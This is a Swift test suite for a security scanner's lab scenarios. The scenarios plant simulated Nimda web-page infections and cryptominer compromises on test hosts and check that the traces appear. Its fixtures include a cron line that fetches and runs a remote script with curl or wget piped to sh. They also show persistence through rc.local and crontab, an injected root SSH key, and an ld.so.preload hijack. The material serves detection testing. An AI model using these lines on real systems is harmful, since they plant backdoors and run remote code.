import Foundation
import ScourEngine
import ScourHost
import ScourLab
import ScourSSH
import TestSupport
import Testing

/// `scour lab up --scenario nimda-nginx|cryptominer`, seen over real SSH (`scour exec` and plain
/// OpenSSH): the traces where Playbooks/nimda-nginx.scour and cryptominer-cron-sshkey.scour look
/// for them on infected hosts, benign versions of the same files on clean ones, each host's own
/// web root, and a miner that really runs in its host, started by the host's rc.local at boot.
@Suite(.needs(.lab))
struct ScenarioOnLabTests {
    static let scriptLine = #"<script language="JavaScript">window.open("readme.eml", null, "resizable=no,top=6000,left=6000")</script>"#
    static let pages = ["about/index.htm", "downloads/index.html", "index.html", "news/2001/september.htm", "products/catalog.html"]

    @Test func nimda_nginx_plants_the_worm_in_each_hosts_own_web_root() async throws {
        let lab = try await LabFixture(hosts: 4, scenario: "nimda-nginx")
        #expect(lab.state.hosts.map(\.infected) == [false, true, false, true])
        let inventory = try String(contentsOfFile: lab.inventory, encoding: .utf8)
        let webRoots = ["h01": "/srv/www/h01", "h02": "/srv/www/h02", "h03": "/var/www/html", "h04": "/var/www/html"]
        for host in lab.state.hosts {
            let line = try #require(inventory.split(separator: "\n").first { $0.hasPrefix(host.name + " ") })
            let variable = webRoots[host.name] == "/var/www/html" ? nil : "web_root=\(webRoots[host.name]!)"
            #expect(line.split(separator: " ").map(String.init).filter { $0.hasPrefix("web_root=") } == (variable.map { [$0] } ?? []),
                    "\(line): a web root off the default is named, the default is not")
        }

        // Each host says where its site is (its nginx config), then what is in it.
        let report = try await ExecReportJSON(lab.exec(#"""
            root=$(sed -n 's/^[[:space:]]*root \(.*\);$/\1/p' /etc/nginx/sites-enabled/default)
            echo "root $root"
            echo "service $(systemctl is-active nginx)"
            for file in admin.dll readme.eml index.html; do test -f "$root/$file" && echo "has $file"; done
            cd "$root" && echo "pages $(find . -name '*.htm*' | sort | tr '\n' ' ')"
            echo "scripted $(grep -rlxF '<script language="JavaScript">window.open("readme.eml", null, "resizable=no,top=6000,left=6000")</script>' . | sort | tr '\n' ' ')"
            echo "worm-locations $(grep -cE '^[[:space:]]*location (/c|\^~ /d/|~ \\\.eml\$) \{' /etc/nginx/sites-enabled/default)"
            echo "other-locations $(grep -cE '^[[:space:]]*location (/|/downloads/|~\* .*) \{' /etc/nginx/sites-enabled/default)"
            for other in /srv/www/h0* /var/www/html; do [ "$other" = "$root" ] || [ ! -e "$other" ] || echo "also $other"; done
            true
            """#, ["--format", "json"]))
        #expect(report.summary.ok == 4)
        for host in lab.state.hosts {
            let seen = try report.host(host.name)
            let root = webRoots[host.name]!
            let pages = Self.pages.map { "./" + $0 }.joined(separator: " ") + " "
            let expected = [
                "root \(root)", "service active",
            ] + (host.infected ? ["has admin.dll", "has readme.eml"] : []) + [
                "has index.html", "pages \(pages)", "scripted \(host.infected ? pages : "")",
                "worm-locations \(host.infected ? 3 : 0)", "other-locations 3",
            ]
            #expect(seen.stdout?.split(separator: "\n").map(String.init) == expected, "\(host.name): \(seen.stdout ?? "") \(seen.stderr ?? "")")
        }
        // The line is appended: the page is the clean page plus that line.
        let h02 = try await lab.ssh(lab.state.hosts[1], "tail -n 2 /srv/www/h02/about/index.htm")
        #expect(h02.stdout == "</html>\n\(Self.scriptLine)\n")
    }

    @Test func cryptominer_runs_in_its_host_and_persists_through_lines_among_benign_ones() async throws {
        let lab = try await LabFixture(hosts: 4, scenario: "cryptominer")
        #expect(lab.state.hosts.map(\.infected) == [false, true, false, true])
        let labKey = try String(contentsOfFile: lab.clientKey + ".pub", encoding: .utf8).trimmingCharacters(in: .whitespacesAndNewlines)
        let miner = "/opt/.kworker/kworkerds -o stratum+tcp://pool.invalid:3333"
        let malicious = [
            "/etc/rc.local": "\(miner) >/dev/null 2>&1 &",
            "/etc/cron.d/sysstat": "*/10 * * * * root (curl -fsSL http://pool.invalid/ldr.sh || wget -q -O - http://pool.invalid/ldr.sh) | sh >/dev/null 2>&1",
            "/var/spool/cron/crontabs/root": "@reboot \(miner) >/dev/null 2>&1",
            "/root/.ssh/authorized_keys": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMinerKworkerdsStratumPoolInvalid3333Persist x@kworker",
            "/etc/ld.so.preload": "/etc/libsystem.so",
        ]
        // Benign lines every host keeps: one of each file.
        let benign = [
            "/etc/rc.local": "mkdir -p /run/scour-lab/app",
            "/etc/cron.d/sysstat": "59 23 * * * root command -v debian-sa1 > /dev/null && debian-sa1 60 2",
            "/var/spool/cron/crontabs/root": "15 2 * * * tar -czf /var/backups/etc.tgz /etc >/dev/null 2>&1",
            "/root/.ssh/authorized_keys": labKey,
            "/etc/ld.so.preload": "/opt/dynatrace/oneagent/agent/lib64/liboneagentproc.so",
        ]
        let files = malicious.keys.sorted()
        let counts = files.map { file in
            "echo \"\(file) $(grep -cxF \(ShellQuote.posix(malicious[file]!)) \(file)) $(grep -cxF \(ShellQuote.posix(benign[file]!)) \(file)) $(wc -l < \(file))\""
        }
        let report = try await ExecReportJSON(lab.exec(counts.joined(separator: "\n") + #"""

            for pid in $(pgrep -x kworkerds); do
              echo "process $(ps -o user= -p $pid) $(readlink /proc/$pid/exe) $(tr '\0' ' ' < /proc/$pid/cmdline)"
            done
            for file in /opt/.kworker/kworkerds /opt/.kworker/config.json /etc/libsystem.so; do test -f $file && echo "has $file"; done
            echo "preloaded $(grep -c -e /etc/libsystem.so -e liboneagentproc.so /proc/self/maps)"
            true
            """#, ["--format", "json"]))
        #expect(report.summary.ok == 4)
        let lines = ["/etc/cron.d/sysstat": 9, "/etc/ld.so.preload": 1, "/etc/rc.local": 7, "/root/.ssh/authorized_keys": 2, "/var/spool/cron/crontabs/root": 3]
        for host in lab.state.hosts {
            let seen = try report.host(host.name)
            let extra = host.infected ? 1 : 0
            let expected = files.map { "\($0) \(extra) 1 \(lines[$0]! + extra)" } + (host.infected ? [
                "process root /opt/.kworker/kworkerds \(miner) ",
                "has /opt/.kworker/kworkerds", "has /opt/.kworker/config.json", "has /etc/libsystem.so",
                "preloaded 2",
            ] : ["preloaded 1"])
            #expect(seen.stdout?.split(separator: "\n").map(String.init) == expected, "\(host.name): \(seen.stdout ?? "") \(seen.stderr ?? "")")
            #expect(seen.stderr?.isEmpty == true, "every preloaded library loads without a word: \(seen.stderr ?? "")")
        }
        // The hosts' /etc is their own: the machine's is untouched.
        #expect((try? String(contentsOfFile: "/etc/ld.so.preload", encoding: .utf8))?.contains("libsystem") != true)
        #expect((try? String(contentsOfFile: "/etc/rc.local", encoding: .utf8))?.contains("kworkerds") != true)

        // The boot runs the host's rc.local: without the line, a reboot leaves the miner dead;
        // with it, the miner is back.
        let (cleaned, untouched) = (lab.state.hosts[1], lab.state.hosts[3])
        let edit = try await lab.ssh(cleaned, "sed -i '/kworkerds/d' /etc/rc.local")
        #expect(edit.status == 0, "\(edit.stderr)")
        for host in [cleaned, untouched] {
            try await reboot(host, of: lab)
        }
        #expect(try await lab.ssh(cleaned, "pgrep -x kworkerds").stdout.isEmpty)
        #expect(try await lab.ssh(untouched, "pgrep -x kworkerds").status == 0)

        // TERM ends it, and the host's PID 1 reaps it: no zombie is left for a kill to wait on.
        let killed = try await lab.ssh(untouched, """
            pid=$(pgrep -x kworkerds); kill -TERM "$pid"
            for _ in $(seq 50); do [ -e "/proc/$pid" ] || break; sleep 0.1; done
            [ ! -e "/proc/$pid" ] && echo gone
            """)
        #expect(killed.stdout == "gone\n", "\(killed.stdout) \(killed.stderr)")
    }

    /// `scour lab power reboot`, then waits until the host answers with a new boot id.
    private func reboot(_ host: LabState.Host, of lab: LabFixture) async throws {
        let before = try await lab.ssh(host, "cat /proc/sys/kernel/random/boot_id").stdout
        #expect(try await lab.lab(["power", "reboot", host.name]).status == 0)
        // Waited for generously: a reboot on 2 loaded cores is slow.
        let deadline = ContinuousClock.now + .seconds(240)
        while ContinuousClock.now < deadline {
            let now = try await lab.ssh(host, "cat /proc/sys/kernel/random/boot_id")
            if now.status == 0 && now.stdout != before { return }
            try await Task.sleep(for: .milliseconds(250))
        }
        Issue.record("\(host.name) did not come back from its reboot")
    }
}
